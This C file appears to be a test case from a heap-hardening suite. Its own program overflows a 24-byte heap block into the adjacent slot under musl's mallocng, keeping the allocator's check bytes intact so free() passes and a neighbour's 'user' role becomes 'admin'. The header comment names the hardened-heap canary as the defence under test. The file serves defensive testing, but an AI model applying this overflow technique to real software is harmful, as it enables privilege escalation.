/*
 * Heap overflow into a neighbour's data: two 24-byte blocks; the request
 * parser copies the attacker's 38 bytes into the first, which runs past its
 * end into where musl's allocator puts the second (32 bytes further: its
 * slot stride for 24 bytes). The payload keeps the zero bytes mallocng's own
 * checks want between the two slots, so free() of the first block passes
 * there; then the program reads the second block's role. Named defence: the
 * hardened heap (the canary after the block, checked by free:
 * violation=heap-overflow; or its guard page). Succeeds under heap=musl.
 */
#include <stdlib.h>
#include <string.h>
#include "attack.h"

#define BLOCK 24
#define STRIDE 32 /* mallocng's slot for 24 bytes: 32 bytes, 4 of them its header */

static void *(*volatile do_malloc)(size_t) = malloc;
static void (*volatile do_free)(void *) = free;

int main(void)
{
	unsigned char payload[STRIDE + 6];
	char *request = do_malloc(BLOCK);
	char *session = do_malloc(BLOCK);
	unsigned char *dst = OPAQUE((unsigned char *)request);

	strcpy(session, "user");
	memset(payload, 'A', BLOCK);
	memset(payload + BLOCK, 0, STRIDE - BLOCK);
	memcpy(payload + STRIDE, "admin", 6);
	AUDIT_SAY("heap-overflow: request %p, session %p (%+ld bytes)", (void *)request,
		  (void *)session, (long)(session - request));
	for (size_t i = 0; i < sizeof(payload); i++)
		dst[i] = payload[i];
	do_free(request); /* the request is done with */
	if (strcmp(session, "admin") == 0)
		audit_success("byte written: the neighbour block's role is now admin");
	AUDIT_SAY("heap-overflow: the neighbour is untouched (role %s)", session);
	return 0;
}
